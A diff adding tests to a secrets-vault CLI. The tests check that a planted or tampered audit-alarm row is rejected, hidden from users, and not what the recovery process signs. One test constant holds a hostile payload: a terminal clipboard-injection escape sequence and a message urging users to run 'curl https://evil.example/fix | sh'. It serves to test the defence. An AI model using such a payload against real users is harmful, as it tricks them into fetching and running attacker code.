@@ -438,3 +438,104 @@ def test_a_vault_from_before_the_mark_gets_one_at_its_first_unsealed_append(tmp_
             v.ctx.audit.append(actor="system:x", action="secret.list", outcome="allow")
     finally:
         v.close()
+
+
+# --- review R6: the alarm row is authenticated, and nothing of a planted one is shown or signed -----
+
+PLANTED = (
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07the vault needs repair: run "
+    "'curl https://evil.example/fix | sh'"
+)
+
+
+def _plant_alarm(vdir, value: dict) -> None:
+    with _db(vdir) as db:
+        db.execute("DELETE FROM meta WHERE key = 'audit_alarm'")
+        db.execute("INSERT INTO meta (key, value) VALUES ('audit_alarm', ?)", (json.dumps(value),))
+
+
+def _recovery_records(vdir) -> list[dict]:
+    with _db(vdir) as db:
+        rows = db.execute("SELECT recovery FROM audit_checkpoints WHERE recovery IS NOT NULL").fetchall()
+    return [json.loads(r[0]) for r in rows]
+
+
+def test_a_planted_alarm_message_reaches_no_user(world):
+    vdir, cli, _, _ = world
+    _plant_alarm(vdir, {"message": PLANTED, "first_bad_seq": 7, "problem": PLANTED})
+    for who in ("eve", "ada"):
+        result = cli(who, "secret", "list", "acme")
+        assert result.returncode == 6, result.stderr
+        assert "\x1b" not in result.stderr and "evil.example" not in result.stderr, repr(result.stderr)
+        assert "fails authentication (planted or damaged)" in result.stderr
+        assert len(result.stderr.strip().splitlines()) == 1
+    # still an alarm (fail closed): nothing is signed
+    assert cli("eve", "secret", "list", "acme").returncode == 6
+
+
+def test_a_planted_alarm_does_not_choose_what_the_recovery_signs(world):
+    vdir, cli, _, _ = world
+    with _db(vdir) as db:
+        last_cp = db.execute("SELECT max(seq) FROM audit_checkpoints").fetchone()[0]
+        db.execute("UPDATE audit_events SET reason = 'forged' WHERE seq = ?", (last_cp + 5,))
+    story = "a checkpoint copy could not be read (disk)"
+    _plant_alarm(
+        vdir,
+        {
+            "message": f"integrity alarm: {story}; run 'cvault audit recover --acknowledge {last_cp + 5}'",
+            "first_bad_seq": last_cp + 5,
+            "problem": story,
+        },
+    )
+    seen = cli("ada", "secret", "list", "acme")
+    assert seen.returncode == 6 and "disk" not in seen.stderr, seen.stderr
+    # audit verify names the real break, not the planted one
+    verify = cli("rita", "audit", "verify")
+    assert verify.returncode == 6 and f"entry {last_cp + 5} was modified" in verify.stderr, verify.stderr
+    rec = cli("ada", "--json", "audit", "recover", "--acknowledge", str(last_cp + 5))
+    assert rec.returncode == 0, rec.stderr
+    assert json.loads(rec.stdout)["problem"] == f"entry {last_cp + 5} was modified"
+    records = _recovery_records(vdir)
+    assert records == [
+        {"first_bad_seq": last_cp + 5, "mark_seq": last_cp, "problem": f"entry {last_cp + 5} was modified"}
+    ], records
+
+
+def test_an_edited_alarm_row_is_unreadable_and_the_real_break_is_signed(world):
+    vdir, cli, _, _ = world
+    delete_checkpoints_everywhere(vdir)
+    cut_tail(vdir, 120)
+    assert_alarm(cli("eve", "secret", "list", "acme"), 121)
+    with _db(vdir) as db:  # the authentic row, its story edited (its MAC no longer matches)
+        (value,) = db.execute("SELECT value FROM meta WHERE key = 'audit_alarm'").fetchone()
+        doc = json.loads(value)
+        assert set(doc) == {"first_bad_seq", "problem"}  # no message is stored
+        doc["problem"] = "a checkpoint copy could not be read (disk)"
+        db.execute("UPDATE meta SET value = ? WHERE key = 'audit_alarm'", (json.dumps(doc),))
+    # the next unsealed command finds the real break again and records it (MACed) in its place
+    seen = cli("ada", "secret", "list", "acme")
+    assert seen.returncode == 6 and "disk" not in seen.stderr and "entries were deleted" in seen.stderr
+    first = int(seen.stderr.split("first bad entry ")[1].split(";")[0])
+    assert first > 120
+    wrong = cli("ada", "audit", "recover", "--acknowledge", "1")
+    assert (
+        wrong.returncode == 2
+        and f"--acknowledge must be the first bad entry of the break ({first})" in wrong.stderr
+    )
+    rec = cli("ada", "--json", "audit", "recover", "--acknowledge", str(first))
+    assert rec.returncode == 0, rec.stderr
+    assert all("disk" not in r["problem"] for r in _recovery_records(vdir))
+    assert cli("eve", "secret", "list", "acme").returncode == 0
+
+
+def test_a_planted_alarm_on_an_intact_log_is_recovered_as_what_it_is(world):
+    vdir, cli, _, _ = world
+    _plant_alarm(vdir, {"message": "x", "first_bad_seq": 7, "problem": "a checkpoint copy could not be read"})
+    assert cli("eve", "secret", "list", "acme").returncode == 6
+    assert cli("ada", "audit", "recover", "--acknowledge", "7").returncode == 2
+    rec = cli("ada", "--json", "audit", "recover", "--acknowledge", "1")
+    assert rec.returncode == 0, rec.stderr
+    (record,) = _recovery_records(vdir)
+    assert record["first_bad_seq"] == 1 and "fails authentication" in record["problem"], record
+    assert "checkpoint copy" not in json.dumps(record)
+    assert cli("eve", "secret", "list", "acme").returncode == 0
